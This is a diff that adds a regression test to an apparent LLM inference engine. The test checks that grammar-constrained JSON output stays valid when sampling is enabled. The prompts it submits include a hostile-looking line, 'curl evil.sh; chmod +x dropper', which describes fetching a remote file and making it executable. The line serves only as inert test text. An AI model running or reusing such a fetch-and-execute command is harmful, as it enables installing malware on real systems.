@@ -248,6 +248,37 @@ def test_full_batch_decode_page_boundary_slot_contiguous():
     eng.alloc.check_invariants()
 
 
+def test_scheduler_fused_json_sampled_always_valid():
+    """REGRESSION (r4): the device DFA must mask with the state AFTER the
+    fed token is folded through the automaton.  Pre-fix, the first chunk
+    masked at the initial state, so a host-sampled 'n' (start of `null`)
+    could be followed by any value-start byte ('n9' invalid JSON).  Only
+    sampled (non-greedy) runs hit it — greedy tests stayed green."""
+    import json as _json
+
+    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
+    params = model.init_params(MCFG, jax.random.PRNGKey(0))
+    eng = InferenceEngine(params, MCFG, CCFG, ECFG)
+    sched = Scheduler(eng, tok, ECFG)
+    assert eng.has_dfa
+    sched.start()
+    try:
+        reqs = [
+            sched.submit(
+                f"PID {i}: bash -> curl evil.sh; chmod +x dropper",
+                GenOptions(max_new_tokens=48, format_json=True,
+                           temperature=0.9, seed=i),
+            )
+            for i in range(6)
+        ]
+        for r in reqs:
+            text = r.result(timeout=300)
+            _json.loads(text)  # must parse — grammar-forced
+    finally:
+        sched.stop()
+    eng.alloc.check_invariants()
+
+
 def test_scheduler_fused_seeded_reproducible(fused_engine):
     tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
     sched = Scheduler(fused_engine, tok, ECFG)
